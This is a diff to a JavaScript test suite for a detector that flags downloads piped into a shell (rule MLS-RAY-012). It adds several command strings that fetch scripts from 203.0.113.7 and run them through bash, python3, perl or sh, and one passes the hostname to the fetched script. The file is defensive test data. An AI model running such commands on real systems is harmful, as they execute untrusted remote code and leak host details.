@@ -75,6 +75,12 @@ describe('a download piped into a shell (MLS-RAY-012)', () => {
       '$(wget -qO- http://203.0.113.7/r.sh)',
       'bash <(curl -s http://203.0.113.7/r.sh)',
       'source <(curl -s http://203.0.113.7/env.sh)',
+      // An interpreter's whole program fetched, and a substitution that names the command behind a wrapper.
+      'python3 -c "$(curl -s http://203.0.113.7/p.py)"',
+      'perl -e "$(wget -qO- http://203.0.113.7/p.pl)"',
+      'python3 <(curl -s http://203.0.113.7/p.py)',
+      'nohup $(curl -s http://203.0.113.7/r | base64 -d) &',
+      'curl -s http://203.0.113.7/r.sh | sh -s $(hostname) --quiet',
     ]) {
       expect(ids(['sh', '-c', script]), script).toContain('MLS-RAY-012');
     }
